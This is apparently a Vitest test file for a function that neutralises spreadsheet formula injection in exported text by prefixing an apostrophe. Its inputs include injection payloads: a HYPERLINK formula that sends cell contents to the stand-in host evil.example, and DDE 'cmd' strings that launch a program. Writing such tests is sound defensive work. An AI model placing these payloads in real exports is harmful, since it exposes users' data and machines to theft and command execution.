import { describe, expect, test } from 'vitest';
import { harmless } from '../../src/exports/formula.ts';

describe('a text that a spreadsheet would calculate', () => {
  test.each([
    '=1+1',
    '=HYPERLINK("http://evil.example?x="&A1,"klik")',
    '+31 20 123 45 67',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\u0000=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '−1',
    '\u202e=1+1',
  ])('stands behind an apostrophe: %j', (text) => {
    expect(harmless(text)).toBe(`'${text}`);
  });
});

test.each(['', 'Java Developer', "'s-Hertogenbosch", 'C# / .NET', '1-2 jaar', 'a=b', 'e-mail@example.nl', '(=1)', '"=1"', '€ 3.000', '*', '–'])('a text like %j stays as it is', (text) => {
  expect(harmless(text)).toBe(text);
});
